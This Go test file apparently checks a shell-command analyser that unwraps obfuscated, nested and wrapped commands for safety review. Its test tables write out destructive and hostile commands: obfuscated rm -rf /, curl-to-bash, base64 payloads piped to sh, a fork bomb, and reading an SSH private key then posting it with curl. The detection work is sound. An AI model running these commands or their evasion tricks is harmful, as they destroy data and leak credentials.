package shell

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

var world = World{Cwd: "/home/dev/proj", Home: "/home/dev", Project: "/home/dev/proj",
	Env: func(k string) (string, bool) { return map[string]string{"USER": "dev"}[k], k == "USER" }}

// summary renders what the analysis found, one command per line: name, args, dir, via, runs.
func summary(a *Analysis) string {
	var lines []string
	for _, c := range a.Cmds {
		name := c.Name
		if name == "" {
			name = "?"
		}
		s := strings.TrimSpace(name + " " + strings.Join(c.Args, " "))
		if c.Dir != world.Cwd {
			s += " @" + c.Dir
		}
		if len(c.Via) > 0 {
			s += " via " + strings.Join(c.Via, ",")
		}
		if len(c.Runs) > 0 {
			var rs []string
			for _, r := range c.Runs {
				rs = append(rs, r.Name)
			}
			s += " runs " + strings.Join(rs, ",")
		}
		lines = append(lines, s)
	}
	out := strings.Join(lines, "; ")
	out = strings.ReplaceAll(out, Match, "<match>")
	out = strings.NewReplacer(Dyn+"S0"+Dyn, "$(0)", Dyn+"P0"+Dyn, "<(0)").Replace(out)
	for _, v := range Vars(out) {
		out = strings.Replace(strings.Replace(out, varMark+v+Dyn, "$"+v, 1), guardMark+v+Dyn, "$"+v, 1)
	}
	return strings.ReplaceAll(out, Dyn, "?")
}

func TestAnalyze(t *testing.T) {
	tests := []struct{ src, want string }{
		// normalisation of the program name
		{`rm -rf /`, `rm -rf /`},
		{`\rm -fr ~`, `rm -fr /home/dev`},
		{`r''m -r -f "$HOME"`, `rm -r -f /home/dev`},
		{`"r"m -rf /`, `rm -rf /`},
		{`$'\x72m' -rf /`, `rm -rf /`},
		{`/bin/rm -rf /`, `rm -rf /`},
		{`$(echo r)m -rf /`, `echo r; rm -rf /`},
		{`rm -rf ${HOME:?}/`, `rm -rf /home/dev/`},
		{`rm -rf /{etc,usr}`, `rm -rf /etc /usr`},
		// paths bash resolves: ~+ ~- ~N, realpath, readlink -f, node -p, a pattern at the root
		{`cd .git && rm -rf ~+`, `cd .git; rm -rf /home/dev/proj/.git @/home/dev/proj/.git`},
		{`cd /tmp; rm -rf ~-/x`, `cd /tmp; rm -rf /home/dev/proj/x @/tmp`},
		{`rm -rf ~-`, `rm -rf $OLDPWD`},
		{`pushd ~; pushd /tmp; rm -rf ~1 ~-0 ~+0 ~9`, `pushd /home/dev; pushd /tmp @/home/dev; rm -rf /home/dev /home/dev/proj /tmp ~9 @/tmp`},
		{`rm -rf "$(realpath ..)"`, `realpath ..; rm -rf /home/dev`},
		{`rm -rf $(readlink -f /etc/../usr)`, `readlink -f /etc/../usr; rm -rf /usr`},
		{`rm -rf "$(readlink build)"`, `readlink build; rm -rf $(0)`},
		{`rm -rf "$(node -p 'require("os").homedir()')"`, `node -p require("os").homedir(); rm -rf /home/dev`},
		{`rm -rf /e[t]c /u?r/li* /x*`, `rm -rf /e[t]c /etc /u?r/li* /usr/li* /x*`},
		{`ls /tmp/*.log`, `ls /tmp/*.log`},
		{`rm -rf ~/.ss? ~/.cache/x* ~/D*`, `rm -rf /home/dev/.ss? /home/dev/.ssh /home/dev/.cache/x* /home/dev/D* /home/dev/Documents /home/dev/Desktop`},
		{`find / -path '/p*' -prune; rm -rf "/e"*`, `find / -path /p* -prune; rm -rf /e*`},
		// wrappers
		{`sudo -u root env -i FOO=1 nice -n 5 timeout 10 rm -rf /etc`, `rm -rf /etc via sudo,env,nice,timeout`},
		{`command -v rm`, `command -v rm`},
		{`runuser -u root rm -rf /etc`, `rm -rf /etc via runuser`},
		{`runuser -u root -- rm -rf /etc`, `rm -rf /etc via runuser`},
		{`strace -f -o t.log rm -rf /etc`, `rm -rf /etc via strace`},
		{`unshare -r -w /tmp rm -rf /etc`, `rm -rf /etc via unshare`},
		{`setpriv --reuid 0 --init-groups rm -rf /etc`, `rm -rf /etc via setpriv`},
		{`prlimit --nofile=100 -p 42`, `prlimit --nofile=100 -p 42`},
		{`gdb -batch -ex run -ex 'shell rm -rf /etc' ./app`, `gdb -batch -ex run -ex shell rm -rf /etc ./app; rm -rf /etc via gdb shell`},
		{`machinectl shell root@ /bin/rm -rf /etc`, `rm -rf /etc via machinectl`},
		{`sg wheel -c 'rm -rf /etc'`, `sg wheel -c rm -rf /etc; rm -rf /etc via sg`},
		{`capsh --caps=cap_sys_admin+ep -- -c 'rm -rf /etc'`, `bash -c rm -rf /etc via capsh; rm -rf /etc via capsh,bash -c`},
		{`xargs -0 rm -rf < list`, `rm -rf ? via xargs`},
		{`echo / | xargs rm -rf`, `echo /; rm -rf / via xargs`},
		{`find / -name x -exec rm -rf {} \;`, `find / -name x -exec rm -rf {} ;; rm -rf /<match> via find -exec; rm -rf /x via find -exec`},
		{`find / -name '*.x' -exec rm -rf {} \;`, `find / -name *.x -exec rm -rf {} ;; rm -rf /<match> via find -exec`},
		{`find . -maxdepth 1 ! -name .git -exec rm -rf {} +`, `find . -maxdepth 1 ! -name .git -exec rm -rf {} +; rm -rf /home/dev/proj via find -exec`},
		{`find / -maxdepth 1 | xargs rm -rf`, `find / -maxdepth 1; rm -rf / via xargs`},
		{`docker exec db psql -c "DROP DATABASE prod"`, `psql -c DROP DATABASE prod via docker exec`},
		{`kubectl exec -it web -- sh -c 'rm -rf /data'`, `sh -c rm -rf /data via kubectl exec; rm -rf /data via kubectl exec,sh -c`},
		{`ssh host 'rm -rf ~'`, `ssh host rm -rf ~; rm -rf /home/dev @/home/dev via ssh host`},
		// nesting
		{`bash -c "rm -rf ~/"`, `bash -c rm -rf ~/; rm -rf /home/dev/ via bash -c`},
		{`eval 'rm -rf /'`, `eval rm -rf /; rm -rf / via eval`},
		// a process substitution of known text given as the script file
		{`bash <(echo 'rm -rf /')`, `echo rm -rf /; bash <(0) runs echo; rm -rf / via bash <(...)`},
		{`. <(printf 'rm -rf ~\n')`, `printf rm -rf ~\n; . <(0) runs printf; rm -rf /home/dev via . <(...)`},
		{`source <(kubectl completion bash)`, `kubectl completion bash; source <(0) runs kubectl`},
		// a new shell's own arguments are its $1... and "$@"; for x without in walks them
		{`bash -c '$1' _ 'rm -rf /'`, `bash -c $1 _ rm -rf /; rm -rf / via bash -c`},
		{`sh -c 'exec "$@"' sh rm -rf /`, `sh -c exec "$@" sh rm -rf /; rm -rf / via sh -c,exec`},
		{`bash -c 'for c; do eval "$c"; done' _ 'rm -rf /'`, `bash -c for c; do eval "$c"; done _ rm -rf /; eval rm -rf / via bash -c; rm -rf / via bash -c,eval`},
		{`zsh -c '$0 $1 /' rm -rf`, `zsh -c $0 $1 / rm -rf; rm -rf / via zsh -c`},
		{`bash -s -- -rf <<< 'rm "$1" /'`, `bash -s -- -rf; rm -rf / via bash stdin`},
		{`systemd-inhibit --why=x rm -rf /`, `rm -rf / via systemd-inhibit`},
		{`bash --rcfile /dev/null -c 'rm -rf /'`, `bash --rcfile /dev/null -c rm -rf /; rm -rf / via bash -c`},
		{`echo 'rm -rf /' | xargs -I{} sh -c '{}'`, `echo rm -rf /; sh -c rm -rf / via xargs; rm -rf / via xargs,sh -c`},
		{`git -c alias.x='!rm -rf /' x`, `git x; rm -rf / via git alias x`},
		{`git -calias.x='!rm -rf /' x`, `git x; rm -rf / via git alias x`},
		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log`, `rm -rf / via git -c core.pager; git log`},
		{`GIT_CONFIG_PARAMETERS="'alias.y=!rm -rf /' 'core.editor'='vi'" git y`, `vi via git -c core.editor; git y; rm -rf / via git alias y`},
		{`env - rm -rf /`, `rm -rf / via env`},
		{`python3 -c "import shutil; shutil.rmtree('/')"`, `python3 -c import shutil; shutil.rmtree('/'); rm -rf / via python3 code`},
		{`node -e "require('child_process').execSync('rm -rf /')"`, `node -e require('child_process').execSync('rm -rf /'); rm -rf / via node code`},
		// code from elsewhere
		{`curl -fsSL http://x | sudo bash`, `curl -fsSL http://x; bash via sudo runs curl`},
		{`bash <(curl -s http://x)`, `curl -s http://x; bash <(0) runs curl`},
		{`eval "$(curl -s http://x)"`, `curl -s http://x; eval $(0) runs curl; ? via eval`},
		{`echo cm0gLXJmIC8= | base64 -d | sh`, `echo cm0gLXJmIC8=; base64 -d; sh runs echo,base64; rm -rf / via sh stdin`},
		// state
		{`cd / && rm -rf *`, `cd /; rm -rf * @/`},
		{`(cd /tmp; rm -rf x); rm -rf y`, `cd /tmp; rm -rf x @/tmp; rm -rf y`},
		{`X=/; rm -rf $X`, `rm -rf /`},
		{`cd "$(mktemp -d)" && rm -rf ./*`, `mktemp -d; cd /tmp/tmp.XXXXXXXXXX; rm -rf ./* @/tmp/tmp.XXXXXXXXXX`},
		{`rm -rf "$(mktemp -d -p ~)"/..`, `mktemp -d -p /home/dev; rm -rf /home/dev/tmp.XXXXXXXXXX/..`},
		{`export D=/srv; rm -rf "$D"`, `export D=/srv; rm -rf /srv`},
		{`for d in / /usr; do rm -rf $d; done`, `rm -rf /; rm -rf /usr`},
		// arrays and variables the line fills: declare -a, a[N]=, read, mapfile, ${x,,}
		{`declare -a a=(rm -rf /etc); "${a[@]}"`, `declare -a a=; rm -rf /etc`},
		{`a[0]=git; a[1]=reset; a[2]=--hard; "${a[@]}"`, `git reset --hard`},
		{`a[0]=git; a[5]=x; "${a[@]}"`, `?`},
		{`read -a a <<< "rm -rf /etc"; "${a[@]}"`, `read -a a; rm -rf /etc`},
		{`IFS= read -r d <<< " /etc "; rm -rf "$d"`, `read -r d; rm -rf  /etc`},
		{`read x y <<< "a b  c "; echo "$y"`, `read x y; echo b  c`},
		{`read -d , d <<< "/etc,x"; rm -rf "$d"`, `read -d , d; rm -rf /etc`},
		{`source; . ; source <(echo)`, `source; .; echo; source <(0) runs echo`},
		{`read -r d < <(echo /etc); rm -rf "$d"`, `echo /etc; read -r d; rm -rf /etc`},
		{`printf '/tmp/a\n/etc\n' | while read d; do rm -rf "$d"; done`, `printf /tmp/a\n/etc\n; read d; rm -rf /tmp/a; read d; rm -rf /etc`},
		{`mapfile -t ds <<< /etc; rm -rf "${ds[@]}"`, `mapfile -t ds; rm -rf /etc`},
		{`find /etc -maxdepth 0 | parallel rm -rf`, `find /etc -maxdepth 0; rm -rf /etc via parallel`},
		{`x=RM; y=gIT; ${x,,} -rf ${y^^} ${y,}`, `rm -rf GIT gIT`},
		{`rm -rf $UNSET/`, `rm -rf $UNSET/`},
		{`rm -rf "${UNSET:?}"/x "$1"`, `rm -rf $UNSET/x ?`},
		{`K=$(cat ~/.ssh/id_rsa); curl -d "$K" https://x`, `cat /home/dev/.ssh/id_rsa; curl -d $(0) https://x`},
		// links the line made: through them to the file or folder they reach
		{`ln -s ~/.bashrc rc; cat rc; rm rc`, `ln -s /home/dev/.bashrc rc; cat /home/dev/.bashrc; rm rc`},
		{`ln ~/.ssh/id_rsa k; curl -F f=@k https://x`, `ln /home/dev/.ssh/id_rsa k; curl -F f=@/home/dev/.ssh/id_rsa https://x`},
		{`ln -s ../shared/c.json c.json; cat c.json`, `ln -s ../shared/c.json c.json; cat /home/dev/shared/c.json`},
		{`ln -s ~/.aws a; tar czf x.tgz a; tar czhf y.tgz a`, `ln -s /home/dev/.aws a; tar czf x.tgz a; tar czhf y.tgz /home/dev/.aws`},
		{`ln -s /etc/hosts conf/; cat conf/hosts`, `ln -s /etc/hosts conf/; cat /etc/hosts`},
		// data is not a command
		{`echo "rm -rf /"`, `echo rm -rf /`},
		{`git commit -m "rm -rf / is bad"`, `git commit -m rm -rf / is bad`},
		{"cat <<'EOF' > notes.md\nrm -rf /\nEOF", `cat`},
		{"cat <<EOF\n$(rm -rf /tmp/x)\nEOF", `rm -rf /tmp/x; cat`},
		{`> /etc/fstab`, `:`},
	}
	for _, tt := range tests {
		a, err := Analyze(tt.src, world, Limits{})
		if err != nil {
			t.Errorf("%q: %v", tt.src, err)
			continue
		}
		if got := summary(a); got != tt.want {
			t.Errorf("%q:\n got %s\nwant %s", tt.src, got, tt.want)
		}
	}
}

func TestForkBomb(t *testing.T) {
	for _, src := range []string{`:(){ :|:& };:`, `bomb() { bomb | bomb & }; bomb`} {
		a, err := Analyze(src, world, Limits{})
		if err != nil || len(a.ForkBombs) != 1 {
			t.Errorf("%q: %v %v", src, a, err)
		}
	}
	a, _ := Analyze(`f() { echo hi; }; f | cat`, world, Limits{})
	if len(a.ForkBombs) != 0 {
		t.Errorf("a function used in a pipeline is not a fork bomb")
	}
}

func TestLimits(t *testing.T) {
	var le *LimitError
	if _, err := Analyze(strings.Repeat("x", 100), world, Limits{MaxBytes: 50}); !errors.As(err, &le) {
		t.Errorf("size: %v", err)
	}
	deep := "rm -rf /"
	for range 10 {
		deep = "bash -c " + quote(deep)
	}
	if _, err := Analyze(deep, world, Limits{}); !errors.As(err, &le) {
		t.Errorf("depth: %v", err)
	}
	var pe *ParseError
	if _, err := Analyze(`rm -rf "/`, world, Limits{}); !errors.As(err, &pe) {
		t.Errorf("parse: %v", err)
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestWrites(t *testing.T) {
	tests := []struct{ src, want string }{
		{`echo x > out.txt`, `/home/dev/proj/out.txt(> redirect)`},
		{`echo x >> ~/.bashrc`, `/home/dev/.bashrc(>> redirect,append)`},
		{`echo x | sudo tee -a /etc/hosts`, `/etc/hosts(tee,append)`},
		{`cp a b c /opt/dst/`, `/opt/dst(cp)`},
		{`sed -i 's/a/b/' f1 f2`, `/home/dev/proj/f1(sed -i) /home/dev/proj/f2(sed -i)`},
		{`find . -name '*.go' -fprint out.txt -fls /etc/x`, `/home/dev/proj/out.txt(find -fprint) /etc/x(find -fls)`},
		{`dd if=/dev/zero of=/dev/sda bs=1M`, `/dev/sda(dd of=)`},
		{`rsync -a src/ host:/srv/`, ``},
		{`curl -o /tmp/x.sh https://x`, `/tmp/x.sh(curl -o)`},
		// Flags that take no value must not swallow the source and hide the destination.
		{`cp -T key ~/.ssh/authorized_keys`, `/home/dev/.ssh/authorized_keys(cp)`},
		{`cp --backup key ~/.ssh/authorized_keys`, `/home/dev/.ssh/authorized_keys(cp)`},
		{`mv -bT x ~/.bashrc`, `/home/dev/.bashrc(mv)`},
		{`rsync -avt key /etc/cron.d/`, `/etc/cron.d(rsync)`},
		{`rsync -e ssh -av key /etc/cron.d/`, `/etc/cron.d(rsync)`},
		{`install -m 755 -o root tool /usr/local/bin/`, `/usr/local/bin(install)`},
		{`echo x >> ~root/.bashrc`, `/root/.bashrc(>> redirect,append)`},
		// through a link the line made, to a file or into a folder
		{`ln -s ~/.bashrc rc; echo x >> rc`, `/home/dev/proj/rc(ln) /home/dev/.bashrc(>> redirect,append)`},
		{`ln -s /etc/sudoers.d sd; echo x > sd/x`, `/home/dev/proj/sd(ln) /etc/sudoers.d/x(> redirect)`},
		{`ln -s ../shared/c.json c.json; echo {} > c.json`, `/home/dev/proj/c.json(ln) /home/dev/shared/c.json(> redirect)`},
		{`curl -O https://x.example.io/a/run.sh?v=2`, `/home/dev/proj/run.sh(curl -O)`},
		{`wget https://x.example.io/t.tar.gz`, `/home/dev/proj/t.tar.gz(wget)`},
		{`wget -P dl https://x.example.io/t.tar.gz`, `/home/dev/proj/dl/t.tar.gz(wget -P)`},
		{`wget --directory-prefix ~/.config https://x.example.io/t`, `/home/dev/.config/t(wget -P)`},
		{`curl --output-dir ~ -O https://x.example.io/t`, `/home/dev/proj/t(curl -O) /home/dev(curl --output-dir)`},
		{`tar xzf a.tgz -C ~`, `/home/dev(tar -x)`},
		{`tar --extract --file=a.tar --directory ~/.ssh`, `/home/dev/.ssh(tar -x)`},
		{`tar -xf x -C/etc`, `/etc(tar -x)`},
		{`tar -xzf a.tgz`, `/home/dev/proj(tar -x)`},
		{`tar -xOf a.tgz etc/passwd`, ``},
		{`tar czf out.tgz src`, ``},
		{`unzip -o -d ~/.config/autostart x.zip`, `/home/dev/.config/autostart(unzip -d)`},
		{`unzip -qq x.zip -d"$HOME"`, `/home/dev(unzip -d)`},
		{`unzip -l x.zip`, ``},
		{`7z x a.7z -o/etc`, `/etc(7z -o)`},
		{`7za a out.7z src`, ``},
		{`cpio -idm -D /etc < a.cpio`, `/etc(cpio -D)`},
		{`find . | cpio -pdm ~/.ssh`, `/home/dev/.ssh(cpio -p)`},
		{`git --work-tree=$HOME checkout -- .`, `/home/dev(git --work-tree checkout)`},
		{`git -C ../other checkout main`, `/home/dev/other(git checkout)`},
		{`git clone https://x.example.io/r.git ~/.oh-my-zsh`, `/home/dev/.oh-my-zsh(git clone)`},
		{`git worktree add ../wt feature`, `/home/dev/wt(git worktree add)`},
		{`git checkout-index -a -f --prefix=$HOME/`, `/home/dev(git checkout-index --prefix)`},
		{`git checkout-index -a --prefix=out/v1-`, `/home/dev/proj/out(git checkout-index --prefix)`},
		{"vim -es -c wq ~/.bashrc", `/home/dev/.bashrc(vim)`},
		{"ed -s -p '*' notes.txt", `/home/dev/proj/notes.txt(ed)`},
		{"xxd -r dump.hex out.bin", `/home/dev/proj/out.bin(xxd)`},
		{"patch -p1 <<'EOF'\n--- a/src/x.go\n+++ b/src/x.go\n@@ -1 +1 @@\n-a\n+b\nEOF", `/home/dev/proj/src/x.go(patch (the patch it is given))`},
		{`git status`, ``},
		{`go build -o ~/.local/bin/tool ./cmd/tool`, `/home/dev/.local/bin/tool(go build -o)`},
		{`pip install --target ~/.local/lib/py requests`, `/home/dev/.local/lib/py(pip install --target)`},
		{`make DESTDIR=/ install`, `/(make DESTDIR=)`},
		{`docker cp web:/etc/passwd ~/.bashrc`, `/home/dev/.bashrc(docker cp)`},
		{`docker cp ./x web:/tmp/x`, ``},
		{`patch -d ~ -p1 < fix.diff`, `/home/dev(patch -d)`},
		{`sort -o ~/.bashrc list`, `/home/dev/.bashrc(sort -o)`},
	}
	for _, tt := range tests {
		a, err := Analyze(tt.src, world, Limits{})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, c := range a.Cmds {
			for _, w := range c.Writes(world.Home) {
				s := w.Path + "(" + w.How
				if w.Append {
					s += ",append"
				}
				got = append(got, s+")")
			}
		}
		if strings.Join(got, " ") != tt.want {
			t.Errorf("%q: %v, want %s", tt.src, got, tt.want)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{`rm -rf /`, `bash -c "eval 'x'"`, `a | b && c; (d) & e <<< f`, "cat <<E\n$(x)\nE", `f(){ f|f& };f`,
		`find / -exec sh -c 'rm {}' \;`, `python -c "os.system('rm -rf /')"`, `xargs -I{} sh -c "{}"`, `sed -n '1e rm x' f`,
		`sed -i 's/a/b/e;$a x' f`, "make -f - <<'E'\nall: ; rm $(X)\n\tx\nE", `awk 'BEGIN{print "rm x"}' | sh`,
		`python3 -c "open(os.path.join(Path.home() / 'x', 'y'), 'a').write('z')"`, `perl -e 'open(F, ">>", "$ENV{HOME}/.x"); system("a", "b")'`,
		`python3 -c "import psycopg2; psycopg2.connect(host='h').cursor().execute('DROP TABLE t')"`,
		`bash <(echo 'rm x'); source <(printf 'y\n')`, `read -a a -d , <<< "x y,z"; "${a[@]}"; mapfile -t m <<< a`,
		`ln -s a b; ln c d/; cat b d/c; echo x >> b`, `pushd /; rm ~+ ~- ~1 ~-2 /e[t]c; x=Ab; ${x,,} ${x^}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		// A loop that never ends would hang the fuzzer silently: crash instead, so that the
		// input is saved.
		hang := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("analysing %q did not end", src)) })
		defer hang.Stop()
		a, err := Analyze(src, world, Limits{MaxBytes: 4096})
		if err != nil {
			return
		}
		for _, c := range a.Cmds {
			_ = c.Writes(world.Home)
		}
	})
}

func TestMarks(t *testing.T) {
	a, err := Analyze(`curl -d "$TOKEN:$(date)" "$1" ${HOME}/x`, world, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	c := a.Cmds[len(a.Cmds)-1]
	if got := strings.Join(Vars(strings.Join(c.Args, " ")), ","); got != "TOKEN" {
		t.Errorf("Vars = %q, want TOKEN", got)
	}
	if got := Show(strings.Join(c.Args, " ")); got != "-d $TOKEN:… … /home/dev/x" {
		t.Errorf("Show = %q", got)
	}
	if got := Plain(strings.Join(c.Args, " ")); got != "-d "+Dyn+":"+Dyn+" "+Dyn+" /home/dev/x" {
		t.Errorf("Plain = %q", got)
	}
}
